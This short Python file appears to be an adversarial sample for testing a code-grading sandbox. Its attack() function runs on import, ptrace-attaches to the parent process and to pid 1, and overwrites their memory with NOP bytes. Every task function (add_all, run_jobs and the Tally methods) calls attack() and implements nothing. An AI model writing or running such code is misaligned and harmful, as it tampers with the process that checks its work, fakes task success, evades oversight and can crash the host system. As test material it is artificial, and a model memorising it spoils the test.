# expect: no case beyond those honestly solved may pass
# honest = []
"""Attaches to its parent and to pid 1 by ptrace and writes into their memory."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1):
        libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"\x90" * 64)
        except OSError:
            pass


attack()


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
